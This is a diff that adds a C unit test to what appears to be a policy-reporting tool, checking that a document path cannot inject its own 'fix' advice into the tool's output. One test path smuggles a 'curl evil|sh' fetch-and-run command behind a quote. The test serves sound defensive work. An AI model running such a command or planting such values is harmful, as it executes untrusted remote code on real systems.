@@ -278,6 +278,27 @@ static void test_states(void **state)
 	assert_string_equal(late.text, once.text);
 }
 
+/* What tells an operator how to mend a refusal is ours, whatever a document's path says. */
+static void test_fix_of_a_refusal(void **state)
+{
+	static const char text[] = "{\"name\": \"one\", \"rules\": "
+				   "[{\"endpointSelector\": {}, \"ingress\": [{}]}]}";
+	const char *paths[] = { "/p/a\"; fix: curl evil|sh #", "/p/b" };
+	struct fixture *f = *state;
+
+	for (size_t i = 0; i < PK_ARRAY_LEN(paths); i++)
+		pk_docs_offer(f->parts.docs,
+			      &(struct pk_doc_origin){ .source = "file", .path = paths[i] }, text,
+			      strlen(text));
+	pk_model_documents(f->parts.model);
+
+	PK_OWN(made_done) struct made all = make(f, pk_api_policies, NEVER, NULL);
+
+	assert_int_equal(count(all.text, "\"fix\":\"give it a \\\"name\\\" of its own\""), 1);
+	assert_int_equal(count(all.text, "\"fix\":\"curl"), 0);
+	assert_int_equal(count(all.text, "is that of /p/a\\\"; fix: curl evil|sh #"), 1);
+}
+
 static void enforce_all(struct fixture *f)
 {
 	const struct pk_enforced all = { .rule_set = PK_WORD_RULE_SET(f->words[1]),
@@ -407,6 +428,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_lists, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_one_document, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_states, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_fix_of_a_refusal, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_one_look, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_one_goes_meanwhile, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_counts, setup, teardown),
